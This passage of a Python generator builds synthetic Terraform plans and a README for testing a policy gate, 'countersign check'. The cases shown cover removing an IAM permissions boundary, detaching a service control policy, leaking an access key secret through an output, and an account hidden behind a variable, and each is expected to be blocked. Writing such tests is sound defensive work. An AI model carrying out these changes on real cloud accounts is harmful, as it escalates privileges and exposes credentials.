        ("boundary-removed", Change("aws_iam_user", "x", {"arn": "arn:aws:iam::123456789012:user/x", "force_destroy": False, "id": "x", "name": "x", "path": "/", "permissions_boundary": None, "tags": {}, "tags_all": {}, "unique_id": "AIDAEXAMPLE"}, before={"arn": "arn:aws:iam::123456789012:user/x", "force_destroy": False, "id": "x", "name": "x", "path": "/", "permissions_boundary": "arn:aws:iam::123456789012:policy/limit", "tags": {}, "tags_all": {}, "unique_id": "AIDAEXAMPLE"}), "a permissions boundary goes"),
        ("guardrail-deleted", Change("aws_organizations_policy_attachment", "x", before={"id": "123456789012:p-12345678", "policy_id": "p-12345678", "skip_destroy": None, "target_id": "123456789012"}), "a service control policy is taken off an account"),
    )
    for name, change, what in opaque:
        yield case(name, plan(change), what, "block", 1)
    leak = plan(harmless(), output_changes={"key": {"actions": ["create"], "before": None, "after_unknown": True, "before_sensitive": True, "after_sensitive": True}})
    leak["configuration"]["root_module"]["outputs"] = {"key": {"sensitive": True, "expression": {"references": ["aws_iam_access_key.bot.secret", "aws_iam_access_key.bot"]}}}
    yield case("secret-in-output", leak, "a key's secret leaves by an output", "block", 1)
    other = plan(grant(policy=NARROW), providers={"aws": {"name": "aws", "full_name": aws, "expressions": {"assume_role": [{"role_arn": {"references": ["var.deployer"]}}]}}})
    yield case("account-unknown", other, "the account is behind a variable", "block, and say which fact is missing", 1)


def cases():
    for group in (sections, values, texts, other_files, ways):
        yield from group()


def readme(found):
    lines = [
        "# Plans that try to pass, and files that are no plan",
        "",
        "All synthetic: `synthetic/hostile.py` writes them, and this table. `exit` is what `countersign check` owes with a manifest",
        "that covers none of it: 0 allowed, 1 blocked, 2 could not judge. Never 0 where 1 or 2 is due.",
        "",
        "| file | what it is | a gate must | exit |",
        "|---|---|---|---|",
    ]
    clean = lambda cell: cell.replace("|", "\\|")
    lines += [f"| `{c.name}.json` | {clean(c.what)} | {clean(c.must)} | {c.exit} |" for c in found]
    return "\n".join(lines) + "\n"
